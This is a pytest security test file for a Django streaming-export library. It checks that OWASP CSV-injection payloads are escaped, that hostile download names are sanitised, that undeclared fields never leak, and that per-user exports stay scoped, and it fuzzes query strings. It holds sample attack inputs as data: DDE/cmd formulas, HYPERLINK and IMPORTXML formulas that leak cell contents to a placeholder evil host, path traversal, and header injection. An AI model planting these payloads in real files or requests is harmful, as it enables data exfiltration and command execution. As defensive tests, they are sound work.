"""Security: formula injection (OWASP list), download names, undeclared fields,
per-user querysets behind login/permission mixins, and a fuzzed query string."""

from __future__ import annotations

import gc
import io
import json
import random
import sys
import zipfile
from urllib.parse import quote, urlencode

import pytest
from django.contrib.auth.mixins import LoginRequiredMixin, PermissionRequiredMixin
from django.contrib.auth.models import Permission, User
from django.urls import include, path
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from django_streamexport.columns import resolve_columns
from django_streamexport.formats.csv import CSVFormat
from django_streamexport.limits import export_slots
from django_streamexport.views import StreamingExportView
from tests.conftest import answer, logged_tracebacks, parse_csv, parse_ndjson
from tests.test_example_project import load
from tests.testapp.models import Author, Record

#: OWASP "CSV Injection" payloads and the triggers of OWASP and ASVS 1.2.10.
OWASP_PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/", A1), "//a")',
    "-1",
    "+1",
    "@A1",
]


def test_owasp_payloads_are_escaped_in_csv():
    queryset = Record.objects.all()
    columns = resolve_columns(queryset, ["title", "count"], {})
    fmt = CSVFormat(columns)
    # Python 3.10's csv module cannot write NUL at all (3.11 can); PostgreSQL text cannot
    # hold it either, so only the trigger rule matters there (tests/test_formats.py).
    payloads = [p for p in OWASP_PAYLOADS if "\0" not in p or sys.version_info >= (3, 11)]
    data = fmt.start() + fmt.render_rows([(p, -5) for p in payloads])
    rows = parse_csv(data)[1:]
    assert [row[0] for row in rows] == ["'" + p for p in payloads]
    assert {row[1] for row in rows} == {"-5"}  # numbers are never altered


@pytest.mark.django_db(transaction=True)
def test_owasp_payloads_through_the_view(client):
    Record.objects.bulk_create(
        [Record(title=p.replace("\0", ""), count=-1) for p in OWASP_PAYLOADS]
    )
    response = client.get("/records/export/?format=csv")
    rows = parse_csv(b"".join(response.streaming_content))
    response.close()
    header = rows[0]
    titles = [row[header.index("Record title")] for row in rows[1:]]
    assert titles == ["'" + p.replace("\0", "") for p in OWASP_PAYLOADS]
    assert {row[header.index("Count")] for row in rows[1:]} == {"-1"}
    response = client.get("/records/export/?format=ndjson")
    records = parse_ndjson(b"".join(response.streaming_content))
    response.close()
    assert [r["title"] for r in records] == [p.replace("\0", "") for p in OWASP_PAYLOADS]


# --- views for the tests below (urls: this module) ------------------------------------------


class HostileNameExport(StreamingExportView):
    model = Record
    export_fields = ("id", "title")

    def get_filename(self):
        return self.request.GET.get("name", "")


class MyRecordsExport(LoginRequiredMixin, PermissionRequiredMixin, StreamingExportView):
    """The documented pattern: login, a permission, and rows scoped to the user."""

    permission_required = "testapp.view_record"
    raise_exception = False
    export_fields = ("id", "title")

    def get_queryset(self):
        return Record.objects.filter(author__name=self.request.user.get_username())


urlpatterns = [
    path("name/", HostileNameExport.as_view()),
    path("mine/", MyRecordsExport.as_view()),
    path("", include("tests.urls")),
]


@pytest.mark.urls("tests.test_security")
@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "fallback"),
    [
        ("../../etc/passwd", "etc-passwd.csv"),
        ("..\\..\\boot.ini", "boot.ini.csv"),
        ('a"; filename="evil.exe', "a- filename=-evil.exe.csv"),
        ("x\r\nSet-Cookie: a=b", "x-Set-Cookie- a=b.csv"),
        ("rapport-été/../x", "rapport-ete-..-x.csv"),
        ("\u202eexe.csv", "exe.csv"),
        ("evil\u202ecsv.exe", "evil-csv.exe.csv"),
        ("zero\u200bwidth\u2028sep", "zero-width-sep.csv"),
        ("🎉", "export.csv"),
        ("", "export.csv"),
    ],
)
def test_hostile_download_names(client, name, fallback):
    response = client.head("/name/", {"name": name, "format": "csv"})
    header = response["Content-Disposition"]
    assert header.startswith('attachment; filename="')
    assert "\r" not in header and "\n" not in header and "/" not in header.split("filename*")[0]
    assert "\u202e" not in header and "%E2%80%AE" not in header and "%E2%80%8B" not in header
    sent = header.split('filename="', 1)[1].split('"', 1)[0]
    assert sent == fallback
    assert not sent.startswith(".")


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize(
    "query",
    [
        "fields=id,author__country__name",
        "fields=password&format=csv",
        "export_fields=body",
        "columns=body&fields[]=body",
        "values_list=body",
        "format=csv&field=body&order_by=-id",
    ],
)
def test_undeclared_fields_can_never_be_exported(client, query):
    Record.objects.create(title="t", body="SECRET BODY")
    response = client.get("/records/export/?" + query)
    data = b"".join(response.streaming_content)
    response.close()
    expected = client.get("/records/export/?format=" + ("csv" if "format=csv" in query else ""))
    expected_data = b"".join(expected.streaming_content)
    expected.close()
    assert data == expected_data  # the query string changes nothing but the format


@pytest.mark.urls("tests.test_security")
@pytest.mark.django_db(transaction=True)
def test_per_user_queryset_with_login_and_permission(client):
    alice = User.objects.create_user("alice", password="x")
    bob = User.objects.create_user("bob", password="x")
    alice.user_permissions.add(Permission.objects.get(codename="view_record"))
    for owner in ("alice", "bob"):
        author = Author.objects.create(name=owner)
        Record.objects.bulk_create([Record(title=f"{owner} {i}", author=author) for i in range(5)])

    anonymous = client.get("/mine/?format=ndjson")
    assert anonymous.status_code == 302 and "/login" in anonymous["Location"]

    client.force_login(bob)  # logged in, no permission: 403 before anything streams
    assert client.get("/mine/?format=ndjson").status_code == 403

    client.force_login(alice)
    response = client.get("/mine/?format=ndjson")
    records = parse_ndjson(b"".join(response.streaming_content))
    response.close()
    assert sorted(r["title"] for r in records) == [f"alice {i}" for i in range(5)]


# --- fuzzing the query string ----------------------------------------------------------------

PARAM_NAMES = st.sampled_from(["format", "fields", "name", "page", "q", "", "format[]", "%"])
VALUES = st.one_of(
    st.sampled_from(["csv", "ndjson", "CSV", "json", "xlsx", "", " csv", "csv\x00", "../csv"]),
    st.text(max_size=60),
)
FUZZ_STATS = {"cases": 0, "ok": 0, "rejected": 0}


@pytest.mark.urls("tests.test_security")
@pytest.mark.django_db(transaction=True)  # response.close() closes the connection, as in production
@settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    pairs=st.lists(st.tuples(PARAM_NAMES, VALUES), max_size=4),
    raw=st.sampled_from(["", "&%ZZ", "&format=%FF%FE", "&%00=%00", "&format=%E2%80%AE", "&=&&="]),
    target=st.sampled_from(["/records/export/", "/name/"]),
)
def test_fuzzed_query_string(client, pairs, raw, target):
    query = "&".join(f"{quote(k, safe='')}={quote(v, safe='')}" for k, v in pairs) + raw
    FUZZ_STATS["cases"] += 1
    response = client.get(f"{target}?{query}")
    assert response.status_code in (200, 400), response.status_code
    if response.status_code == 400:
        FUZZ_STATS["rejected"] += 1
        text = response.content.decode()
        assert response["Content-Type"] == "text/plain; charset=utf-8"
        assert text.startswith("Unknown export format")
        assert "Choose one of: csv, json, ndjson, parquet, xlsx." in text
        assert "Traceback" not in text
        return
    FUZZ_STATS["ok"] += 1
    data = b"".join(response.streaming_content)
    response.close()
    content_type = response["Content-Type"]
    if content_type.startswith("text/csv"):
        assert parse_csv(data)[0][0] == "ID"
    elif content_type.startswith("application/x-ndjson"):
        assert all(json.loads(line) for line in data.decode().splitlines()) or data == b""
    elif content_type.startswith("application/json"):
        assert isinstance(json.loads(data), list)
    elif content_type.startswith("application/vnd.openxmlformats"):
        assert zipfile.ZipFile(io.BytesIO(data)).testzip() is None
    else:
        assert content_type == "application/vnd.apache.parquet"
        assert data[:4] == data[-4:] == b"PAR1"


def test_zz_report_fuzz_counts():
    print(f"fuzz: {FUZZ_STATS}")


# --- fuzzing the filters of the example project's public view and admin export page ----------

#: Query parameters the flights view reads (carrier, origin, month, format) and lookups the
#: admin changelist applies as filters, search (q), ordering (o), page (p), error flag (e).
FILTER_NAMES = [
    *("carrier", "origin", "month", "format", "q", "o", "p", "e", ""),
    *("tailnum", "tailnum__regex", "tailnum__iregex", "dest_faa__startswith", "id__range"),
    *("id__in", "id__gt", "flight_number__exact", "dep_delay__gte", "distance__lt"),
    *("time_hour__year", "time_hour__month", "time_hour__day", "time_hour__year__gt"),
    *("time_hour__iso_year", "time_hour__date", "origin__faa__exact", "carrier__carrier__exact"),
]
#: Values that broke exports (NUL bytes, regular expressions, years out of range) and others.
FILTER_VALUES = [
    *("", "\x00", "J\x00FK", "(", ")", "[", "*", "+", "\\", "a{99999}", "(?<x", "%"),
    *("99999", "9999", "10000", "0", "-1", "1e400", "1,2", "1,2,3", "9" * 30, "NaN", "inf"),
    *("B6", "b6", "JFK", "N14228", "2013-01-01", "2013-13-45", "12", "31", "true", "é", "🎉"),
    *("'", '"', ";--", "0x00", "csv", "ndjson", "xlsx", "json", "parquet", "-id", "1.2"),
]
ALPHABET = "aZ09_-.,:;()[]{}*+?^$|\\/'\" %\x00\x7féß中🎉"


def fuzzed_filters(rng: random.Random) -> list[tuple[str, str]]:
    """Return one to three (name, value) pairs: mostly known names and values, some noise."""
    pairs = []
    for _ in range(rng.randint(1, 3)):
        name = rng.choice(FILTER_NAMES)
        if rng.random() < 0.8:
            value = rng.choice(FILTER_VALUES)
        else:
            value = "".join(rng.choice(ALPHABET) for _ in range(rng.randint(1, 8)))
        pairs.append((name, value))
    return pairs


@pytest.mark.urls("config.urls")
@pytest.mark.django_db(transaction=True)
def test_fuzzed_filters_are_answered_before_the_export_starts(client, admin_client, caplog):
    """300 seeded query strings: each a 200 streamed to its end or a 400, never a 500 or a cut.

    Half go to the public flights view without logging in, half to the admin export page
    as its changelist filters; nothing is logged at ERROR and no traceback is logged.
    """
    load("default", limit=300)
    for each in (client, admin_client):
        each.raise_request_exception = False  # a view's exception answers as a 500
    caplog.set_level("INFO")
    rng = random.Random(20130101)
    outcomes: dict[str, list] = {}
    for case in range(300):
        filters = fuzzed_filters(rng)
        if case % 2:
            url = "/admin/flights/flight/export/"
            query = {
                "_changelist_filters": urlencode(filters),
                "format": rng.choice(["csv", "ndjson"]),
            }
            response = admin_client.get(url, query)
        else:
            url = "/exports/flights/"
            response = client.get(url + "?" + urlencode(filters))
        status, text = answer(response)
        outcomes.setdefault(f"{status} {text[:100]}", []).append((url, filters))
        assert status in (200, 400), (url, filters, status, text)
        assert not text.startswith("cut after"), (url, filters, text)
    assert logged_tracebacks(caplog) == []
    gc.collect()
    assert export_slots.active == 0
    # The seed reaches both answers, and the refusals this fix is about.
    statuses = {key.split()[0] for key in outcomes}
    assert statuses == {"200", "400"}, outcomes.keys()
    refused = [key for key in outcomes if "was refused" in key or "were refused" in key]
    assert len(refused) >= 2, outcomes.keys()
